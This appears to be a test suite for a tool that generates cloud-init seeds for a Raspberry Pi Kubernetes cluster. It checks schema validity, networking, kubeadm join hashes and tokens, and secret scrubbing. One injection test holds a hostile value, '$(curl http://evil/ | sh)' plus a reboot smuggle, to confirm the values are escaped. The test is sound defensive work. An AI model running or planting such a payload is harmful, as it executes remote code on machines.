// Seeds for every yarpi4 node, checked with the real tools: `cloud-init schema`, `cloud-init devel net-convert`,
// openssl for the discovery hash, PyYAML for what the node will actually read.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync } from 'node:child_process';
import { writeFileSync, mkdirSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { parse, parseAllDocuments } from 'yaml';
import { loadProfile, parseProfile, BUILTIN_PROFILE } from '../../lib/cluster/profile.ts';
import { renderSeed, type Seed } from '../../lib/cluster/seed.ts';
import { nodePlan } from '../../lib/cluster/plan.ts';
import { diskSignature, sdDiskSignature } from '../../lib/cluster/disk.ts';
import { referenceText, sharedSecrets, tempDir } from '../helpers/cluster.ts';

const t = tempDir('pi-image-seed-');
process.on('exit', t.cleanup);

type WF = { path: string; content: string; permissions: string };
const writeFiles = (ud: string): WF[] => (parse(ud, { version: '1.1' }) as { write_files: WF[] }).write_files;
const fileIn = (ud: string, path: string) => writeFiles(ud).find((f) => f.path === path);

/** What PyYAML (cloud-init's parser) makes of a text, as JSON. */
function pyyaml(text: string): unknown {
  const out = execFileSync('python3', ['-c', 'import sys, yaml, json; print(json.dumps(yaml.safe_load(sys.stdin.read())))'], { input: text });
  return JSON.parse(out.toString());
}

async function yarpiSeeds(): Promise<{ seeds: Record<string, Seed> }> {
  const { profile } = await loadProfile(BUILTIN_PROFILE);
  const secrets = await sharedSecrets();
  const seeds: Record<string, Seed> = {};
  for (const n of profile.nodes) seeds[n.name] = renderSeed(profile, n.name, secrets);
  return { seeds };
}

test('every yarpi4 node: user-data (and its scrubbed form) pass `cloud-init schema --config-file`', async () => {
  const { seeds } = await yarpiSeeds();
  for (const [name, seed] of Object.entries(seeds)) {
    assert.ok(seed['user-data'].startsWith('#cloud-config\n'));
    const dir = join(t.dir, 'schema', name);
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'user-data'), seed['user-data']);
    writeFileSync(join(dir, 'user-data.scrubbed'), fileIn(seed['user-data'], '/etc/pi-image/user-data.scrubbed')!.content);
    for (const f of ['user-data', 'user-data.scrubbed']) {
      const out = execFileSync('cloud-init', ['schema', '--config-file', join(dir, f)], { stdio: ['ignore', 'pipe', 'pipe'] }).toString();
      assert.match(out, /Valid cloud-config/, `${name}/${f}`);
    }
  }
});

test('the 24.04 example and the QEMU test profile pass the schema too', async () => {
  const secrets = await sharedSecrets();
  for (const f of [join(BUILTIN_PROFILE, '..', 'noble-k8s.yaml'), new URL('../fixtures/profiles/qemu-firstboot.yaml', import.meta.url).pathname]) {
    const { profile } = await loadProfile(f);
    for (const n of profile.nodes) {
      const file = join(t.dir, `${profile.cluster.name}-${n.name}`);
      writeFileSync(file, renderSeed(profile, n.name, secrets)['user-data']);
      assert.match(execFileSync('cloud-init', ['schema', '-c', file]).toString(), /Valid cloud-config/);
    }
  }
});

test('network-config is v2 that cloud-init converts (static address, route, DNS); meta-data has an instance-id', async () => {
  const { seeds } = await yarpiSeeds();
  const ids = new Set<string>();
  for (const [name, seed] of Object.entries(seeds)) {
    const net = pyyaml(seed['network-config']) as { version: number; ethernets: Record<string, unknown> };
    assert.is(net.version, 2);
    const file = join(t.dir, `${name}.network-config`);
    writeFileSync(file, seed['network-config']);
    const out = join(t.dir, `net-${name}`);
    execFileSync('cloud-init', ['devel', 'net-convert', '-p', file, '-k', 'yaml', '-d', out, '-D', 'ubuntu', '-O', 'networkd'], { stdio: 'pipe' });
    const dir = join(out, 'etc/systemd/network');
    const unit = readFileSync(join(dir, readdirSync(dir)[0]!), 'utf8');
    const ip = `10.0.0.${10 + Number(name.slice(4))}`;
    assert.match(unit, new RegExp(`Address=${ip.replaceAll('.', '\\.')}/24`));
    assert.match(unit, /Gateway=10\.0\.0\.1/);
    assert.match(unit, /Name=eth0/);
    const meta = pyyaml(seed['meta-data']) as Record<string, string>;
    assert.is(meta['instance-id'], seed.instanceId);
    assert.is(meta['local-hostname'], name);
    ids.add(seed.instanceId);
  }
  assert.is(ids.size, 4);
});

test('DHCP, a named interface and a MAC match', async () => {
  const p = parseProfile(
    'apiVersion: pi-image/v1\nkubernetes: {enabled: false}\nglusterfs: {enabled: false}\nssd: {brick: false}\n' +
      'nodes:\n  - {name: a, address: dhcp, interface: enp0s3}\n  - {name: b, address: 10.1.0.5/16, mac: "52:54:00:12:34:56", interface: lan0}\n',
  );
  const secrets = await sharedSecrets();
  const a = pyyaml(renderSeed(p, 'a', secrets)['network-config']) as any;
  assert.equal(a, { version: 2, ethernets: { enp0s3: { dhcp4: true } } });
  const b = pyyaml(renderSeed(p, 'b', secrets)['network-config']) as any;
  assert.equal(b.ethernets.lan0.match, { macaddress: '52:54:00:12:34:56' });
  assert.is(b.ethernets.lan0['set-name'], 'lan0');
});

test('discovery hash recomputed with openssl is in every worker join; the token is the master\'s', async () => {
  const { seeds } = await yarpiSeeds();
  const secrets = await sharedSecrets();
  const ca = join(secrets.dir, 'ca.crt');
  const hex = execFileSync('sh', ['-c', 'openssl x509 -pubkey -noout -in "$1" | openssl pkey -pubin -outform der | sha256sum', 'sh', ca]).toString().split(' ')[0]!;
  assert.match(hex, /^[0-9a-f]{64}$/);
  assert.is(secrets.discoveryHash, `sha256:${hex}`);
  const master = parseAllDocuments(fileIn(seeds.node1!['user-data'], '/etc/pi-image/kubeadm.yaml')!.content).map((d) => d.toJS());
  const init = master.find((d) => d.kind === 'InitConfiguration');
  assert.is(init.bootstrapTokens[0].token, secrets.token);
  assert.is(init.bootstrapTokens[0].ttl, '48h', 'a bounded lifetime (kubernetes.tokenTTL, default 48h), never 0s');
  const cc = master.find((d) => d.kind === 'ClusterConfiguration');
  assert.equal(cc.apiServer.certSANs, ['node1.home.arpa', 'node1', '10.0.0.11'], 'API server certificate: FQDN, hostname, address');
  assert.is(cc.imageRepository, 'registry.k8s.io');
  for (const seed of Object.values(seeds)) assert.not.match(seed['user-data'], /k8s\.gcr\.io/);
  // The CA the master uses is the one the hash pins.
  assert.is(fileIn(seeds.node1!['user-data'], '/etc/kubernetes/pki/ca.crt')!.content, readFileSync(ca, 'utf8'));
  for (const w of ['node2', 'node3', 'node4']) {
    const ud = seeds[w]!['user-data'];
    const join = parse(fileIn(ud, '/etc/pi-image/kubeadm-join.yaml')!.content);
    assert.is(join.kind, 'JoinConfiguration');
    assert.equal(join.discovery.bootstrapToken.caCertHashes, [`sha256:${hex}`]);
    assert.is(join.discovery.bootstrapToken.token, init.bootstrapTokens[0].token);
    assert.is(join.discovery.bootstrapToken.apiServerEndpoint, '10.0.0.11:6443');
    assert.not.match(ud, /unsafeSkipCAVerification|discovery-token-unsafe-skip/);
    const runcmd = (pyyaml(ud) as { runcmd: string[][] }).runcmd;
    assert.ok(runcmd.some((c) => c.join(' ') === '/usr/local/lib/pi-image/firstboot.sh join'));
  }
});

test('the CA key and the master-only secrets are in the master\'s seed only; the scrubbed seed has none', async () => {
  const { seeds } = await yarpiSeeds();
  const s = await sharedSecrets();
  const keyLine = s.caKey.split('\n')[1]!;
  const sshLine = s.heketiSshKey.split('\n')[1]!;
  for (const [name, seed] of Object.entries(seeds)) {
    const ud = seed['user-data'];
    const isMaster = name === 'node1';
    for (const secret of [keyLine, sshLine, s.heketiAdminKey, s.metallbMemberlistKey]) assert.is(ud.includes(secret), isMaster, `${name}`);
    assert.ok(ud.includes(s.token));
    const scrubbed = fileIn(ud, '/etc/pi-image/user-data.scrubbed')!.content;
    for (const secret of [keyLine, sshLine, s.heketiAdminKey, s.metallbMemberlistKey, s.token]) assert.not.ok(scrubbed.includes(secret), `${name} scrubbed`);
    for (const f of ['meta-data', 'network-config'] as const) assert.not.ok(seed[f].includes(s.token));
    const runcmd = (pyyaml(ud) as { runcmd: string[][] }).runcmd;
    assert.equal(runcmd.at(-1), ['/usr/local/lib/pi-image/firstboot.sh', 'scrub']);
    // Secret files are written 0600.
    for (const f of writeFiles(ud)) if (/ca\.key|secrets\/|kubeadm.*\.yaml|heketi\.json/.test(f.path)) assert.is(f.permissions, '0600', f.path);
  }
});

test('same profile and secrets give byte-identical seeds and plans', async () => {
  const secrets = await sharedSecrets();
  const a = (await loadProfile(BUILTIN_PROFILE)).profile;
  const b = (await loadProfile(BUILTIN_PROFILE)).profile;
  for (const n of a.nodes) {
    assert.equal(renderSeed(a, n.name, secrets), renderSeed(b, n.name, secrets));
    assert.equal(nodePlan(a, n.name, secrets), nodePlan(b, n.name, secrets));
  }
  // A change to a node's config changes its instance-id (cloud-init re-runs) and only its own.
  const c = parseProfile(referenceText().replace("timezone: Etc/UTC", 'timezone: Europe/Paris'));
  assert.is.not(renderSeed(c, 'node2', secrets).instanceId, renderSeed(a, 'node2', secrets).instanceId);
});

test('a value with a newline, `runcmd:` and `$(…)` stays one file content / one command: nothing is injected', async () => {
  const hostile = 'x\nruncmd:\n- $(curl http://evil/ | sh)\n"; reboot; echo "\n';
  const profileText = referenceText().replace(
    'timezone: Etc/UTC',
    `timezone: Etc/UTC\nfiles:\n  - path: /etc/motd\n    content: ${JSON.stringify(hostile)}\nruncmd:\n  - ${JSON.stringify('echo ' + hostile.replace(/\n/g, ' '))}\n  - [printf, '%s', ${JSON.stringify(hostile)}]\n`,
  );
  const p = parseProfile(profileText);
  const secrets = await sharedSecrets();
  const ud = renderSeed(p, 'node2', secrets)['user-data'];
  const seen = pyyaml(ud) as { runcmd: unknown[]; write_files: WF[] } & Record<string, unknown>;
  const clean = pyyaml(renderSeed(parseProfile(referenceText()), 'node2', secrets)['user-data']) as Record<string, unknown>;
  assert.equal(Object.keys(seen).sort(), Object.keys(clean).sort());
  assert.equal(seen.runcmd, [
    ...(clean.runcmd as unknown[]).slice(0, -1),
    'echo ' + hostile.replace(/\n/g, ' '),
    ['printf', '%s', hostile],
    ['/usr/local/lib/pi-image/firstboot.sh', 'scrub'],
  ]);
  assert.is(seen.write_files.find((f) => f.path === '/etc/motd')!.content, hostile);
  assert.is(seen.write_files.length, (clean.write_files as WF[]).length + 1);
});

test('nodePlan: disk signatures, root PARTUUID, kernel command line, root size', async () => {
  const { profile } = await loadProfile(BUILTIN_PROFILE);
  const secrets = await sharedSecrets();
  const sigs = new Set<number>();
  for (const n of profile.nodes) {
    const plan = nodePlan(profile, n.name, secrets);
    const sig = diskSignature('yarpi4', n.name);
    const hex = execFileSync('sh', ['-c', 'printf %s "$1" | sha256sum', 'sh', `pi-image:yarpi4:${n.name}:ssd`]).toString().slice(0, 8);
    assert.is(sig.toString(16).padStart(8, '0'), hex);
    assert.is(plan.ssdDiskSignature, sig);
    assert.is(plan.sdDiskSignature, sdDiskSignature('yarpi4', n.name));
    assert.is.not(plan.sdDiskSignature, plan.ssdDiskSignature);
    assert.is(plan.rootPartuuid, `PARTUUID=${hex}-01`);
    assert.ok(plan.cmdline.includes(`root=PARTUUID=${hex}-01`));
    assert.ok(plan.cmdline.includes('usb-storage.quirks=174c:55aa:u'));
    assert.ok(plan.cmdline.includes('cgroup_enable=memory') && plan.cmdline.includes('cgroup_memory=1') && plan.cmdline.includes('rootwait'));
    assert.is(plan.rootPartitionBytes, 32 * 2 ** 30);
    assert.is(plan.seed['user-data'], renderSeed(profile, n.name, secrets)['user-data']);
    sigs.add(sig);
    sigs.add(plan.sdDiskSignature);
  }
  assert.is(sigs.size, 8);
});

test('first boot on real hardware: clock step before what needs a true time, apt held from bootcmd, resume and token units', async () => {
  const { seeds } = await yarpiSeeds();
  const secrets = await sharedSecrets();
  for (const [name, seed] of Object.entries(seeds)) {
    const ud = pyyaml(seed['user-data']) as any;
    const steps = ud.runcmd.filter((c: unknown) => Array.isArray(c) && c[0] === '/usr/local/lib/pi-image/firstboot.sh').map((c: string[]) => c[1]);
    assert.is(steps[0], 'base', 'base (which enables what a reboot needs) before any step that can fail, brick too');
    assert.ok(steps.indexOf('base') < steps.indexOf('clock') && steps.indexOf('clock') < steps.indexOf('packages'), `${name}: ${steps}`);
    const env = fileIn(seed['user-data'], '/etc/pi-image/cluster.env')!.content;
    assert.match(env, new RegExp(`^STEPS='${steps.filter((x: string) => x !== 'scrub').join(' ')}'$`, 'm'), 'cluster.env lists the steps as runcmd runs them');
    assert.match(env, /^CLOCK_WAIT='300'$/m);
    assert.match(env, /^NODE_NAMES='node1 node2 node3 node4'$/m);
    // Only the token's public id, on the master (it deletes the token); the secret half is not in cluster.env.
    assert.match(env, name === 'node1' ? new RegExp(`^TOKEN_ID='${secrets.token.split('.')[0]}'$`, 'm') : /^TOKEN_ID=''$/m);
    assert.not.ok(env.includes(secrets.token));
    assert.match(env, /^TOKEN_TTL='48h'$/m);
    assert.is(ud.bootcmd.length, 2);
    assert.match(ud.bootcmd[1][2], /systemctl mask --runtime --quiet apt-daily\.service apt-daily-upgrade\.service/);
    assert.match(ud.bootcmd[1][2], /^\[ ! -e \/var\/lib\/pi-image\/complete \] \|\| exit 0$/m, 'only until first boot is complete');
    const paths = writeFiles(seed['user-data']).map((f) => f.path);
    assert.ok(paths.includes('/etc/systemd/system/pi-image-resume.service'));
    assert.is(paths.includes('/etc/systemd/system/pi-image-token-cleanup.timer'), name === 'node1');
  }
});

test('netboot and build take the kernel arguments from the same plan: quirks, cgroups, swapaccount, kernel.cmdline', async () => {
  const p = parseProfile(referenceText().replace('timezone: Etc/UTC', 'timezone: Etc/UTC\nkernel:\n  cmdline: [quiet, "loglevel=3"]'));
  const plan = nodePlan(p, 'node2', await sharedSecrets());
  assert.equal(plan.kernelArgs, ['usb-storage.quirks=174c:55aa:u', 'cgroup_enable=cpuset', 'cgroup_enable=memory', 'cgroup_memory=1', 'swapaccount=1', 'quiet', 'loglevel=3']);
  assert.equal(plan.cmdline, [plan.cmdline[0], 'rootfstype=ext4', 'rootwait', ...plan.kernelArgs]);
  const src = readFileSync(new URL('../../lib/cli/commands/netboot.ts', import.meta.url), 'utf8');
  assert.match(src, /extraCmdline: plan\.kernelArgs/);
  assert.not.match(src, /K8S_CGROUP_ARGS/);
});

test('the QEMU test profile: no Kubernetes or Gluster steps; users, extra files and runcmd present', async () => {
  const { profile } = await loadProfile(new URL('../fixtures/profiles/qemu-firstboot.yaml', import.meta.url).pathname);
  const ud = pyyaml(renderSeed(profile, 'vm1', await sharedSecrets())['user-data']) as any;
  assert.equal(ud.runcmd, [
    ['/usr/local/lib/pi-image/firstboot.sh', 'base'],
    'echo runcmd-extra-ran > /var/tmp/pi-image-runcmd-marker',
    ['touch', '/var/tmp/pi-image-runcmd-argv'],
    ['/usr/local/lib/pi-image/firstboot.sh', 'scrub'],
  ]);
  assert.is(ud.users[0].name, 'tester');
  assert.ok(ud.write_files.some((f: WF) => f.path === '/etc/pi-image-test/marker' && f.permissions === '0640'));
  assert.not.ok(ud.write_files.some((f: WF) => f.path.includes('kubeadm') || f.path.includes('pki')));
});

test.run();
